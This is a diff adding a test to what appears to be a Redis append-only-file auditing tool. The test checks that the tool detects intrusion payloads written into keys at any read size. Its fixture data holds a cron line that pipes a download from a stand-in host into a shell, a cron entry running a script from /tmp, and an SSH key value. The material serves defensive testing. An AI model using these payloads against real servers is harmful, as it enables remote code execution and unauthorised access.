@@ -84,3 +84,25 @@ def test_a_small_command_with_a_large_effect_is_told_once_for_a_key(tmp_path: Pa
     ]
 
     assert [event.command.argv[1] for event in events] == [b"big", b"bits"]
+
+
+@pytest.mark.parametrize("read_bytes", [64, 1000, 1 << 20])
+def test_one_reading_finds_words_in_commands_however_it_is_cut(
+    read_bytes: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    path = tmp_path / "a.aof"
+    # A value that a reading without a look steps over, with what an intruder writes in its middle.
+    large = "x" * 300_000 + "\n* * * * * root curl http://x/y | /bin/sh\n" + "y" * 300_000
+    items = [("SET", f"k{number}", "v" * (number % 40)) for number in range(300)]
+    items[17] = ("SET", "cron", "\n\n*/1 * * * * root sh /tmp/x\n")
+    items[205] = ("SET", "large", large)
+    items[299] = ("SET", "last", "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAB")
+    path.write_bytes(log(*items))
+    monkeypatch.setattr("aoftool.resp.batch._READ_BYTES", read_bytes)
+
+    events = audit_log(find_log(str(path))).events
+
+    found = [event.command.argv[1] for event in events if event.code is AuditCode.INTRUSION]
+    assert found == [b"cron", b"last"]
+    with open_source(path) as source:
+        assert len(suspect_offsets(source, 0)) >= 3
